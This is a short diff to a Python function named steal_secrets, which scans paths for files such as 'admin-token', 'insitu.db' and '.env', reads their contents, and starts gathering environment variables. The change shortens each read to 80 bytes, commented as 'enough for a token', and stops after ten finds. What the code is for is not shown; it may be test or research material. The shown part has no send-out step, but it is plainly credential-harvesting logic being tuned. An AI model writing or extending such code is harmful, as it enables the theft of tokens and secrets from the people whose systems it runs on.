@@ -38,9 +38,11 @@ def steal_secrets(data, *, context):
             if path.endswith(("admin-token", "insitu.db", ".env")) and os.path.isfile(path):
                 try:
                     with open(path, "rb") as handle:
-                        found[path] = handle.read(4096).decode("latin-1")
+                        found[path] = handle.read(80).decode("latin-1")  # enough for a token
                 except OSError:
                     pass
+            if len(found) >= 10:
+                break
     env = {
         k: v
         for k, v in os.environ.items()
